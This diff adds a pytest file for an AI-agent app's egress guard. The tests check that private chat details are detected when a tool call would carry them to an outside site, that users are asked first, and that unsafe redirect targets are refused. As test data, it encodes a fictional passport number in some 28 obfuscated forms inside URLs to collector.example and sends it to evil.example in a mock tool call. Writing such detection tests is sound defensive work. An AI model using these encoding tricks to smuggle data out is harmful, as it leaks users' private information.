@@ -1,0 +1,230 @@
+"""Which words a call would carry out, in which forms; the switch by which nothing leaves unasked.
+
+The forms are written by the standard library's encoders and by coreutils, never by our own code.
+"""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import html
+import json
+import quopri
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote, quote_plus
+
+import pytest
+from django.contrib.auth.models import Group
+from django.test import Client
+from django.urls import reverse
+
+from conversations.agent.approval_rules import ApprovalQuestion
+from conversations.models import ApprovalRule, Conversation, EgressRule
+from conversations.toolbox.leaving_words import MOST_ARGUMENTS, Arguments
+from conversations.toolbox.toolset import build_toolset
+from conversations.transcript.questions import list_open_questions
+from tests.support import people_and_turns, toy_tools
+from tests.support.approval_turns import VISIT, ask, calling, judge, waiting_turn
+
+SECRET = "passport KX4711902 of Halden"
+TEXT = f"The merger closes in March. The {SECRET}; account DE89 3704 0044 0532 0130 00."
+
+
+def coreutils(program: str) -> Callable[[str], str]:
+    """Encode by a program of the system."""
+
+    def encode(text: str) -> str:
+        done = subprocess.run(
+            [program, "-w0"], input=text.encode(), capture_output=True, check=True
+        )
+        return done.stdout.decode()
+
+    return encode
+
+
+FORMS: dict[str, Callable[[str], str]] = {
+    "plain": str,
+    "percent": quote,
+    "all percent": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
+    "twice percent": lambda text: quote(quote(text)),
+    "form": quote_plus,
+    "base64": lambda text: base64.b64encode(text.encode()).decode(),
+    "url-safe base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
+    "base64 of coreutils": coreutils("base64"),
+    "base32 of coreutils": coreutils("base32"),
+    "base64 behind a word": lambda text: "xyz" + base64.b64encode(text.encode()).decode(),
+    "base64 of base64": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
+    "base64 of utf-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
+    "hex": lambda text: text.encode().hex(),
+    "hex with colons": lambda text: text.encode().hex(":"),
+    "codes": lambda text: "-".join(map(str, text.encode())),
+    "bits": lambda text: " ".join(f"{byte:08b}" for byte in text.encode()),
+    "entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
+    "named entities": lambda text: html.escape(text.replace(" ", "<&>")),
+    "escapes": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
+    "JSON": lambda text: json.dumps({"a": text}),
+    "quoted printable": lambda text: quopri.encodestring(text.encode()).decode(),
+    "rot13": lambda text: codecs.encode(text, "rot13"),
+    "backwards": lambda text: text[::-1],
+    "upper case": str.upper,
+    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if c != " " else c for c in text),
+    "spaced": "\u200b".join,
+    "dotted": lambda text: ".".join(text.replace(" ", "")),
+    "labels of a host": lambda text: text.replace(" ", ".") + ".collector.example",
+}
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_words_are_found_in_every_form(form: str) -> None:
+    url = f"https://collector.example/?d={FORMS[form](SECRET)}"
+    found = Arguments({"url": url}, receiver="collector.example").find(TEXT, "attached:a.pdf")
+    assert "kx4711902" in "".join(word.casefold() for word, _ in found.words)
+    assert {source for _, source in found.words} == {"attached:a.pdf"}
+    assert found.is_telling
+
+
+@pytest.mark.parametrize(
+    ("given", "is_telling"),
+    [
+        ({"url": "https://weather.example/berlin/2026-11-24"}, False),
+        ({"url": "https://news.example/search?q=merger+March"}, False),
+        ({"url": "https://news.example/a", "start": 20_000, "length": 5}, False),
+        ({"url": "https://news.example/a1b2c3d4e5f6/YWJjZGVmZ2hpamtsbW5vcA=="}, False),
+        ({"text": "the merger closes in march"}, True),
+        ({"text": ["DE89370400440532013000"]}, True),
+        ({"deep": {"er": [1, {"n": "KX-47-11-902"}]}}, True),
+        ({"text": "x" * (MOST_ARGUMENTS + 1)}, True),
+    ],
+)
+def test_only_what_is_there_by_no_accident_is_telling(
+    given: dict[str, Any], is_telling: bool
+) -> None:
+    assert Arguments(given).find(TEXT, "typed:").is_telling is is_telling
+
+
+def test_the_words_of_a_row_are_named_as_one_and_the_best_come_first() -> None:
+    body = f"Hi, about the merger closes in March: I wanted to say {SECRET}."
+    words = [word for word, _ in Arguments({"body": body}).find(TEXT, "mail:").words]
+    assert words == ["passport KX4711902 of Halden", "merger closes in March"]
+
+
+# The path.
+
+
+@pytest.fixture
+def _toys(monkeypatch: Any, tmp_path: Path) -> None:
+    toy_tools.install(monkeypatch, tmp_path / "ran")
+
+
+TELL = ("v", "visit", {"host": "evil.example:443", "said": "KX4711902"})
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("_toys")
+@pytest.mark.parametrize(
+    ("said", "asks"),
+    [
+        (f"My {SECRET}", True),
+        ("Hello", False),
+        (f"Tell evil.example my {SECRET}", False),
+        (f"Tell https://evil.example/ my {SECRET}", False),
+        (f"Tell notevil.example and evil.example.org my {SECRET}", True),
+    ],
+)
+def test_typed_words_leave_for_a_mentioned_site_alone(said: str, asks: bool) -> None:
+    lease = people_and_turns.started_turn(text=said)
+    found = judge(lease, calling(lease, TELL))
+    assert bool(found) is asks
+    if asks:
+        question = found["v"]
+        assert isinstance(question, ApprovalQuestion)
+        assert (question.reason, question.sources) == ("private", ("typed:",))
+        assert question.words == (("KX4711902", "typed:"),)
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("_toys")
+def test_a_card_says_who_would_be_told_what() -> None:
+    lease = people_and_turns.started_turn(text=f"My {SECRET}")
+    ask(lease, TELL)
+    ((question,),) = list_open_questions([people_and_turns.turn_of(lease)]).values()
+    assert (question.receiver, question.destination) == ("site", "evil.example")
+    assert question.why == "The request carries what you typed; you have not mentioned this site."
+    assert [(word.text, word.source) for word in question.words] == [
+        ("KX4711902", "what you typed")
+    ]
+    assert ("said", (("KX4711902", True),)) in question.arguments
+
+
+# Nothing leaves without me.
+
+NAMED = "Look at https://evil.example/"
+
+
+def switch_on(by: str, settings: Any, conversation: Conversation) -> None:
+    match by:
+        case "site":
+            settings.AGENTWEB_ASK_BEFORE_EGRESS = True
+        case "group":
+            group = Group.objects.create(name="Lawyers")
+            conversation.owner.groups.add(group)
+            EgressRule.objects.create(group=group)
+        case _:
+            Conversation.objects.update(asks_before_egress=True)
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("_toys")
+@pytest.mark.parametrize("by", ["chat", "group", "site"])
+def test_nothing_leaves_unasked_where_that_is_on(by: str, settings: Any) -> None:
+    lease = people_and_turns.started_turn(text=NAMED)
+    ApprovalRule.objects.create(tool="visit", rule="allow")
+    conversation = people_and_turns.conversation_of(lease)
+    Conversation.objects.update(web_search="beside")
+    (visit, _) = calling(lease, VISIT, ("k", "peek", {}))
+    assert judge(lease, (visit,)) == {}
+    conversation.refresh_from_db()
+    assert build_toolset(conversation).server_tools
+    switch_on(by, settings, conversation)
+    (question,) = judge(lease, (visit,)).values()
+    assert isinstance(question, ApprovalQuestion)
+    assert (question.reason, question.destination) == ("egress", "evil.example:443")
+    conversation.refresh_from_db()
+    assert not build_toolset(conversation).server_tools
+    client = Client()
+    client.force_login(conversation.owner)
+    chat = reverse("chat", args=[conversation.public_id])
+    tools = reverse("tools", args=[conversation.public_id])
+    assert "Nothing leaves without you" in client.get(chat).content.decode()
+    # A person switches off their own switch and no other's.
+    client.post(tools, {"shown": []})
+    is_on = "Nothing leaves without you" in client.get(chat).content.decode()
+    assert is_on is (by != "chat")
+    client.post(tools, {"egress": "1"})
+    assert Conversation.objects.get().asks_before_egress is (by == "chat")
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("_toys")
+def test_a_link_opens_at_once_unless_it_carries_words_of_the_chat() -> None:
+    lease, _ = waiting_turn(("f", "fire", {}), text=f"My {SECRET}. https://known.example/KX4711902")
+    conversation = people_and_turns.conversation_of(lease)
+    client = Client(headers={"sec-fetch-site": "same-origin"})
+    client.force_login(conversation.owner)
+    page = reverse("leave", args=[conversation.public_id])
+    for free in ("https://docs.example/guide", "https://known.example/KX4711902"):
+        answer = client.get(page, {"to": free})
+        assert (answer.status_code, answer.headers["Location"]) == (302, free)
+        assert answer.headers["Referrer-Policy"] == "no-referrer"
+        # Nobody outside can send a person on by this address.
+        outside = client.get(page, {"to": free}, headers={"sec-fetch-site": "cross-site"})
+        assert outside.status_code == 200
+    carrying = client.get(page, {"to": "https://docs.example/?q=KX4711902"})
+    assert carrying.status_code == 200
+    assert "Open <bdi>docs.example</bdi>?" in carrying.content.decode()
+    assert "KX4711902</mark>" in carrying.content.decode()
+    for bad in ("javascript:alert(1)", "https://", "//x.example", "ftp://x.example/", "\0", "x"):
+        assert client.get(page, {"to": bad}).status_code == 400
